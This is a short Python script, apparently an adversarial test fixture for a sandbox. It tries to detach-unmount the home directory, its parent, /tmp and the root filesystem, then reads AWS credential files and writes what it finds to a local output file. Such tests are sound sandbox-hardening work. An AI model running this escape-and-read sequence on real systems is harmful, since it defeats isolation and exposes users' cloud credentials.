"""Adversarial (issue 13, row 5): unmounts whatever hides the kit user's home (named in home.txt by the
test), then reads the credentials there; what it read goes to output/found.txt.
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
with open("home.txt") as f:
    home = f.read().strip()
found = []
for target in (home, os.path.dirname(home), "/tmp", "/"):
    r = libc.umount2(target.encode(), 2)  # MNT_DETACH
    found.append(f"umount2 {target}: {0 if r == 0 else os.strerror(ctypes.get_errno())}")
for path in (os.path.join(home, ".aws", "credentials"), os.path.expanduser("~/.aws/credentials")):
    try:
        with open(path) as f:
            found.append(f"{path}: {f.read()}")
    except OSError as exc:
        found.append(f"{path}: {exc.strerror}")
os.makedirs("output", exist_ok=True)
with open("output/found.txt", "w") as f:
    f.write("\n".join(found))
